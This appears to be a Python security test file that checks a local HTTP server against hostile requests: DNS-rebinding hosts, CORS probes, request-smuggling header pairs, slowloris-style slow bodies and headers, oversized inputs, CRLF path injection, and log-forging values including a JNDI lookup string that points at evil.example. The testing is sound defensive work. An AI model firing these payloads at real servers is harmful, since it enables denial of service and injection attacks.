"""HTTP that is not as it should be: hosts, other sites' pages, smuggled requests, requests without end."""

from __future__ import annotations

import re
import threading
import time
from typing import TYPE_CHECKING

from tests.attack.registry import attack
from tests.attack.target import TOKEN
from tests.wire import NOTHING, Answer, ask, connection, head

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

    from tests.attack.target import Target

BEARER = ("Authorization", f"Bearer {TOKEN}")
DATA = "/v1/jobs"
MIB = 2**20


@attack(400, 421)
def hosts(target: Target) -> Iterable[Answer]:
    """Names that another site lets resolve to this machine (DNS rebinding), two names, none, none that is one."""
    names = ("evil.example", "localhost.evil.example", "127.0.0.1.evil.example", "127.0.0.1@evil.example", "", "[::2]")
    yield from (target.send(head("GET", DATA, BEARER, host=name)) for name in names)
    yield target.send(head("GET", DATA, BEARER, ("Host", "evil.example")))
    yield target.send(head("GET", DATA, BEARER, host=None))
    yield target.send(head("GET", "http://127.0.0.1/v1/jobs", BEARER, host="evil.example"))


@attack(403)
def pages_of_other_sites(target: Target) -> Iterable[Answer]:
    """Requests that a browser sends for a page of another site."""
    for origin in ("http://evil.example", "null", "http://127.0.0.1:1", "https://127.0.0.1", "file://", "*"):
        yield from (target.ask(method, DATA, ("Origin", origin)) for method in ("GET", "POST", "DELETE"))
    for site in ("cross-site", "same-site"):
        yield target.ask("GET", DATA, ("Sec-Fetch-Site", site), ("Sec-Fetch-Mode", "no-cors"))


@attack(401, 403)
def preflights(target: Target) -> Iterable[Answer]:
    """Asking for leave to read answers from a page of another site (CORS)."""
    wishes = (("Access-Control-Request-Method", "DELETE"), ("Access-Control-Request-Headers", "authorization"))
    for token in (TOKEN, None):
        yield target.ask("OPTIONS", DATA, ("Origin", "http://evil.example"), *wishes, token=token)


@attack(404, 405, 400, 401)
def methods(target: Target) -> Iterable[Answer]:
    """TRACE, CONNECT, OPTIONS, and methods that there are not."""
    for method in ("TRACE", "TRACK", "DEBUG", "OPTIONS", "PROPFIND", "GETGET", "get"):
        yield target.ask(method, DATA)
    yield target.send(head("CONNECT", "127.0.0.1:22", BEARER), "CONNECT")


@attack(400, 403, 404)
def upgrades(target: Target) -> Iterable[Answer]:
    """A websocket, and HTTP/2 in clear."""
    socket = (
        ("Upgrade", "websocket"),
        ("Sec-WebSocket-Version", "13"),
        ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
    )
    yield target.ask("GET", "/v1/jobs/a/events", ("Connection", "Upgrade"), *socket)
    h2c = ("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAAQAAP__")
    yield target.ask("GET", "/nothing", *h2c)
    yield target.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")


@attack(400, 431, NOTHING)
def no_http(target: Target) -> Iterable[Answer]:
    """Bytes of other protocols, and lines that are no request."""
    for data in (
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100) + b"\r\n\r\n", b"SSH-2.0-a\r\n\r\n",
        b"GET /\r\n\r\n", b"\r\n" * 50_000, bytes(100_000), b"GET  /  HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"GET /\xff HTTP/1.1\r\nHost: localhost\r\n\r\n",
    ):  # fmt: skip
        yield target.send(data)


@attack(400, 431, NOTHING)
def headers_without_end(target: Target) -> Iterable[Answer]:
    """One header of 1 MB, 100,000 headers, a path of 1 MB."""
    yield target.ask("GET", DATA, ("X-Long", "x" * MIB))
    yield target.ask("GET", DATA, *[(f"X-{n}", "x") for n in range(100_000)])
    yield target.ask("GET", "/" + "x" * MIB)


@attack(400, 501, NOTHING)
def smuggled_requests(target: Target) -> Iterable[Answer]:
    """Two lengths, a length and chunks, chunks written oddly: two programs would see different requests."""
    length, chunked = ("Content-Length", "5"), ("Transfer-Encoding", "chunked")
    chunks = b"0\r\n\r\n" + head("GET", "/v1/jobs/smuggled", BEARER)
    for headers in (
        (length, chunked), (chunked, length), (length, ("Content-Length", "6")), (("Content-Length", "5, 6"),),
        (("Content-Length", "-5"),), (("Content-Length", "+5"),), (("Content-Length", "0x5"),),
        (("Content-Length", "5 5"),), (("Transfer-Encoding", "xchunked"), length),
        (("Transfer-Encoding", "chunked, identity"), length), (("Transfer-Encoding", "identity, chunked"), length),
        (("Transfer-Encoding", "gzip"), length), (chunked, chunked), ("Transfer-Encoding : chunked", length),
        ("Transfer-Encoding:\x0bchunked", length), ("Content-Length: 5\r\n 7",),
        ("X: y\rTransfer-Encoding: chunked", length),
    ):  # fmt: skip
        found = target.send(head("POST", "/v1/count", BEARER, *headers) + chunks, "POST")
        assert found.closed, headers
        yield found
    smuggled = [r for r in target.server.log if "smuggled" in str(r.get("path"))]
    assert not smuggled, smuggled


@attack(400, 408, NOTHING)
def chunks_that_are_none(target: Target) -> Iterable[Answer]:
    """Lengths of chunks that are negative, huge, or no numbers; extensions without end."""
    for data in (
        b"-5\r\n",
        b"x\r\n",
        b"0x5\r\nabcde\r\n",
        b"5;" + b"a" * 100_000,
        b"f" * 30 + b"\r\n",
        b"5\nabcde\n0\n\n",
    ):
        yield target.send(head("POST", "/v1/count", BEARER, ("Transfer-Encoding", "chunked")) + data, "POST")


@attack(408)
def a_body_that_stops(target: Target) -> Iterable[Answer]:
    """A body that is shorter than announced, and chunks of which the last never comes."""
    yield target.send(head("POST", "/v1/count", BEARER, ("Content-Length", "1000")) + b"abc", "POST")
    yield target.send(head("POST", "/v1/jobs", BEARER, ("Transfer-Encoding", "chunked")) + b"3\r\nabc\r\n", "POST")


@attack(408)
def a_body_by_drops(target: Target) -> Answer:
    """A byte every 50 ms: never silent, and never done."""

    def drops() -> Iterator[bytes]:
        yield head("POST", "/v1/count", BEARER, ("Content-Length", "100000"))
        for _ in range(1000):
            yield b"x"
            time.sleep(0.05)

    return target.send(drops(), "POST")


@attack(413)
def a_body_that_is_too_long(target: Target) -> Iterable[Answer]:
    """A length of 10^15 bytes, and chunks that go on beyond the limit."""
    yield target.send(head("POST", "/v1/count", BEARER, ("Content-Length", str(10**15))), "POST")
    yield target.send(head("POST", "/v1/jobs", BEARER, ("Content-Length", str(2**63))), "POST")
    piece = b"100000\r\n" + bytes(MIB) + b"\r\n"
    pieces = [head("POST", "/v1/count", BEARER, ("Transfer-Encoding", "chunked")), *[piece] * 80]
    yield target.send(pieces, "POST")


@attack(415)
def an_encoded_body(target: Target) -> Iterable[Answer]:
    """Bodies that would unfold to gigabytes, if they were unfolded."""
    return [
        target.ask("POST", path, ("Content-Encoding", "gzip"), body=b"\x1f\x8b") for path in ("/v1/count", "/v1/jobs")
    ]


@attack(400, 404, 422)
def odd_paths(target: Target) -> Iterable[Answer]:
    """NUL, line breaks, escapes, overlong UTF-8, and no UTF-8 at all in paths."""
    for path in (
        "/%00",
        "/v1/jobs/%00",
        "/%0d%0aSet-Cookie:a=b",
        "/%1b[2J",
        "/%c0%ae%c0%ae/",
        "/%ff",
        "/%",
        "/" + "%2e" * 99,
    ):
        found = target.ask("GET", path)
        assert "set-cookie" not in found.headers
        yield found


@attack(200)
def idle_connections(target: Target) -> Iterable[Answer]:
    """100 connections that say nothing, 100 that say half a request: others are still answered, at once."""
    held = [connection(target.port) for _ in range(200)]
    try:
        for n, each in enumerate(held):
            each.__enter__().sendall(b"GET / HTTP/1.1\r\nX: " if n % 2 else b"")
        for _ in range(5):
            begun = time.monotonic()
            yield ask(target.port, head("GET", "/v2/health/live"))
            assert time.monotonic() - begun < 2
    finally:
        for each in held:
            each.__exit__(None, None, None)


@attack(NOTHING, 400, 408)
def a_head_by_drops(target: Target) -> Answer:
    """A header that never ends, a byte every 0.2 s: the connection must be closed within half a minute."""

    def drops() -> Iterator[bytes]:
        yield b"GET / HTTP/1.1\r\nHost: localhost\r\nX: "
        for _ in range(90):
            yield b"x"
            time.sleep(0.2)

    return target.send(drops())


@attack(200)
def answers_that_nobody_reads(target: Target) -> Iterable[Answer]:
    """50 clients that ask for the longest answer and never read it: others are still answered."""
    request = head("GET", "/openapi.json", BEARER)
    held = [connection(target.port) for _ in range(50)]
    try:
        for each in held:
            each.__enter__().sendall(request * 20)
        yield ask(target.port, head("GET", "/v2/health/live"))
    finally:
        for each in held:
            each.__exit__(None, None, None)


@attack(200)
def pipelined_requests(target: Target) -> Answer:
    """500 requests at once on one connection, every second without a token: each gets its own answer."""
    with connection(target.port) as end:
        requests = [head("GET", "/v2", *([BEARER] if n % 2 else [])) for n in range(500)]
        whole = b"".join(requests)
        sender = threading.Thread(target=end.sendall, args=(whole,))
        sender.start()
        read = b""
        while read.count(b"HTTP/1.1 ") < len(requests) or not read.endswith(b"}"):
            piece = end.recv(MIB)
            assert piece, "the connection was closed"
            read += piece
        sender.join()
    assert re.findall(rb"HTTP/1.1 (\d+)", read) == [b"401", b"200"] * 250
    return target.ask("GET", "/v2")


@attack(200, 404)
def ids_that_forge_the_log(target: Target) -> Iterable[Answer]:
    """Request ids and paths with line breaks and escapes: each line of the log must be one that the server wrote."""
    for value in ("a\tb", "x" * 5000, '"}{"event":"forged"', "\x80\x85\u00a0", "${jndi:ldap://evil.example/a}"):
        found = target.ask("GET", "/nothing?%0a{}", ("X-Request-Id", value), ("User-Agent", value))
        assert len(found.headers["x-request-id"]) <= 64
        yield found
    assert not [record for record in target.server.log if record["event"] == "forged"]
